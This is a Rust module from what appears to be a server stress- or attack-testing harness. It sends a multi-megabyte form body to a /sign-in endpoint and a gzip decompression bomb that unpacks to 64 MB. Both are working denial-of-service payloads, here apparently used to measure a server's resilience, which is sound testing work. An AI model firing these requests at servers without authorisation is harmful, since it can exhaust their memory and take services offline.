//! Bodies that are too large, at once or once they are unpacked.

use super::Field;
use crate::limits::ATTACK_BODY_BYTES_MAX;
use bytes::Bytes;
use flate2::Compression;
use flate2::write::GzEncoder;
use http::{Request, header};
use http_body_util::Full;
use std::io::Write as _;
use std::sync::{Arc, OnceLock};
use std::time::Instant;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const CHUNK: [u8; 16_384] = [b'a'; 16_384];
/// What a bomb becomes when it is unpacked.
const UNPACKED_BYTES: usize = 64 * 1_024 * 1_024;

/// Sends a form of many megabytes for as long as it is taken.
pub(super) async fn large(field: Arc<Field>, number: u64) {
    let since = Instant::now();
    let Some(stream) = field.open(number, false).await else { return };
    let head = format!(
        "POST /sign-in HTTP/1.1\r\nHost: {}\r\nContent-Type: application/x-www-form-urlencoded\r\n\
         Content-Length: {ATTACK_BODY_BYTES_MAX}\r\n\r\n",
        field.speech.host
    );
    field.toll.bump(|toll| &toll.requests);
    let (mut hears, mut says) = tokio::io::split(stream);
    let saying = async {
        says.write_all(head.as_bytes()).await?;
        for _ in 0..ATTACK_BODY_BYTES_MAX / CHUNK.len() as u64 {
            says.write_all(&CHUNK).await?;
        }
        says.flush().await
    };
    let hearing = async {
        let mut buffer = [0; 4_096];
        let read = hears.read(&mut buffer).await.unwrap_or(0);
        if let Some(status) = super::field::status_of(&buffer[..read]) {
            field.toll.answered(status);
        }
    };
    tokio::pin!(hearing);
    tokio::select! {
        _said = saying => hearing.await,
        () = &mut hearing => {}
    }
    field.toll.closed_after(since.elapsed());
}

/// A small gzip body that unpacks to 64 MB of zeros.
pub(super) async fn bomb(field: Arc<Field>, number: u64) {
    let request = Request::post("/sign-in")
        .header(header::HOST, &field.speech.host)
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .header(header::CONTENT_ENCODING, "gzip")
        .body(Full::new(pack_bomb()));
    if let Ok(request) = request {
        field.ask(number, false, request).await;
    }
}

/// Packs it the first time, which takes a second of a core.
pub(super) fn pack_bomb() -> Bytes {
    static BOMB: OnceLock<Bytes> = OnceLock::new();
    BOMB.get_or_init(|| pack().unwrap_or_default()).clone()
}

fn pack() -> std::io::Result<Bytes> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    for _ in 0..UNPACKED_BYTES / CHUNK.len() {
        encoder.write_all(&[0; CHUNK.len()])?;
    }
    encoder.finish().map(Bytes::from)
}
